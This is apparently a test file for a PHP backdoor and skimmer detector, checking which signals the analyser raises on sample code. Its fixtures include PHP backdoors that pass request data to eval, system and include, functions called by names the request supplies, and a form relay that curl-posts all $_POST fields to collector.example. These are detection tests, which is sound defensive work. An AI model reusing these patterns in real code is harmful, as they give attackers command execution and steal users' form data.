// The questions the PHP analyser asks of a value by walking through it (request data, straight
// from the request, decoded, scrambled), each with its own reach: one walker serves them all,
// and what each looks through must stay its own.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analysePhp } from '../../../src/integrity/scan/php-analysis.ts';

const ids = (code: string) => analysePhp(`<?php ${code}`).signals.map((s) => s.id);

test('request data reaches eval through any operator, and through a variable named at run time', () => {
  assert.ok(ids("$c = 'x' . trim($_POST['c']); eval($c);").includes('php-request-to-eval'));
  // `$$k`: which variable runs is chosen at run time, so it counts as the request's.
  assert.ok(ids("$k = 'a'; eval($$k);").includes('php-request-to-eval'));
  assert.ok(!ids("$k = 'echo 1;'; eval($k . '');").includes('php-request-to-eval'));
});

test('an include path starts with request data only through concatenation, not arithmetic', () => {
  assert.ok(ids("include $_GET['page'] . '.php';").includes('php-request-to-include'));
  assert.ok(!ids("include ($_GET['page'] * 1) . '.php';").includes('php-request-to-include'));
});

test('a callee is the request only when every value it is given is', () => {
  assert.ok(
    ids("$f = $_GET['f']; $r = new ReflectionFunction($f); $r->invoke('x');").includes('php-request-as-function'),
  );
  assert.ok(
    !ids("$f = $_GET['f']; $f = 'strlen'; $r = new ReflectionFunction($f); $r->invoke('x');").includes(
      'php-request-as-function',
    ),
  );
});

test('the whole form copied field by field through a method and a property is posted out; plain http decides', () => {
  const relay = (url: string) =>
    analysePhp(
      `<?php class A { function a() { self::b($_POST); curl_setopt($c, CURLOPT_URL, '${url}'); curl_setopt($c, CURLOPT_POSTFIELDS, $this->d); } static function b($p) { foreach ($p as $k => $v) $this->d .= "$k=$v&"; } }`,
    ).signals.find((s) => s.id === 'php-request-relayed-out')?.weight ?? 0;
  assert.ok(relay('http://collector.example/g.php') >= 10);
  assert.ok(relay('https://gateway.example/ipn') < 10);
  // Methods cut out of a class, without the opening tag, are read as the class's body.
  const fragment =
    'public function a() { $this->b($_POST); $c = curl_init("http://collector.example/"); curl_setopt($c, CURLOPT_POSTFIELDS, $this->d); }\nprotected function b($p) { foreach ($p as $k => $v) { $this->d[$k] = $v; } }';
  assert.ok(analysePhp(fragment).signals.some((s) => s.id === 'php-request-relayed-out'));
});

test('a callee and its argument from an array nothing sets: a back door as a file of its own, weak in a template', () => {
  const weight = (code: string) => analysePhp(code).signals.find((s) => s.id === 'php-outside-callee')?.weight ?? 0;
  assert.ok(weight("<?php $a = $P['f']; $b = $P['x']; $a($b);") >= 10);
  const template = `<?php $render = $args['render']; ?>\n${'<div class="row"><span>item</span></div>\n'.repeat(60)}<?php $render($args['item']); ?>`;
  assert.ok(weight(template) < 10);
});

test("request data passed to a method of the file's own object reaches its parameters", () => {
  const run = (make: string) =>
    ids(`class Runner { function go($cmd) { system($cmd); } } ${make} $r->go($_POST['c']);`).includes(
      'php-request-to-shell',
    );
  assert.ok(run('$r = new Runner();'));
  // An object the file did not make (handed in, or from a factory) may be any class's.
  assert.ok(!run('$r = Registry::get();'));
  assert.ok(
    ids(
      "class Q { function a($x) { $this->b($x); } function b($y) { eval($y); } } $q = new Q; $q->a($_GET['p']);",
    ).includes('php-request-to-eval'),
  );
});

test("$_SERVER['argv'] is the request's in a web script, a command-line script's own arguments in one", () => {
  // Where register_argc_argv is on (PHP's compiled default), a web request's query string fills argv.
  assert.ok(ids("system($_SERVER['argv'][1]);").includes('php-request-to-shell'));
  for (const cli of [
    "if (PHP_SAPI !== 'cli') exit(1);",
    "if (3 > $_SERVER['argc']) { echo 'usage'; exit(1); }",
    "fwrite(STDERR, 'usage');",
    'class RunTest extends \\PHPUnit\\Framework\\TestCase {}',
    'use Symfony\\Component\\Console\\Command\\Command;',
  ])
    assert.ok(!ids(`${cli} system($_SERVER['argv'][1]);`).includes('php-request-to-shell'), cli);
  // The marker does not clear what the request itself sends.
  assert.ok(ids("if (PHP_SAPI !== 'cli') {} system($_GET['c']);").includes('php-request-to-shell'));
});

test('a method the request names is a controller’s action, weak alone; a function it names, or a method fed its data, is a back door', () => {
  const weak = ids("$action = (string) $_POST['action']; switch ($action) { case 'save': $r = $wizard->$action(); }");
  assert.ok(weak.includes('php-request-as-method') && !weak.includes('php-request-as-function'), weak.join(', '));
  assert.ok(ids("$m = $_GET['m']; Tools::$m();").includes('php-request-as-method'));
  assert.ok(ids("$m = $_GET['m']; $o->$m($_GET['a']);").includes('php-request-as-function'));
  assert.ok(ids("$f = $_GET['f']; $f('ls');").includes('php-request-as-function'));
});
